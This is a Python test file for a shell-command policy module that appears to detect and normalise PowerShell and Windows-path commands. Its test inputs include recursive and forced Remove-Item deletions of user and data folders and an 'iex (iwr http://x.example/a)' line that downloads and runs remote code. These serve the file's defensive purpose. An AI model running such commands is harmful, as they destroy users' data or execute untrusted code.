"""PowerShell and Windows' paths, made readable."""

from __future__ import annotations

import pytest

from lockgate.policies.shell.powershell import as_shell, is_powershell, is_windows
from lockgate.policies.shell.read import read


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Remove-Item -Recurse x", True),
        ("npm ci; Remove-Item x", True),
        ("$p = Get-Process node", True),
        ("iex (iwr http://x.example/a)", True),
        ("echo 'Remove-Item x'", False),
        ("git commit -m 'a; Remove-Item x'", False),
        ("cat > x.ps1 <<'E'\nRemove-Item x\nE", False),
        ("apt-get install x", False),
        ("ls", False),
    ],
)
def test_what_is_powershell(text: str, expected: bool):
    assert is_powershell(text) is expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (r"del C:\x", True),
        (r"dir C:\ ", True),
        (r"echo 'C:\x'", False),
        (r"grep a:\\b x", False),
        (r"printf 'x:\n'", False),
        ("ls c:/x", False),
    ],
)
def test_what_names_paths_of_windows(text: str, expected: bool):
    assert is_windows(text) is expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (r"Remove-Item C:\Users\a", "Remove-Item C:/Users/a"),
        ("Remove-Item $env:USERPROFILE`\n -Force", "Remove-Item ~  -Force"),
        ("ls | ForEach-Object { Remove-Item $_.FullName }", "ls |   Remove-Item   "),
        ("Stop-Process x -Confirm:$false", "Stop-Process x -Confirm:false"),
        ('[IO.File]::Delete("C:/a")', 'Remove-Item -Recurse -Force "C:/a" '),
    ],
)
def test_the_same_in_the_shells_words(text: str, expected: str):
    assert as_shell(text) == expected


def test_it_is_read_like_any_command():
    commands = read(r"Get-ChildItem D:\data -Recurse | Remove-Item -Force").commands
    assert [str(one) for one in commands[1:]] == ["Get-ChildItem D:/data -Recurse", "Remove-Item -Force"]
    assert [feed.name for feed in commands[-1].feeds] == ["get-childitem"]
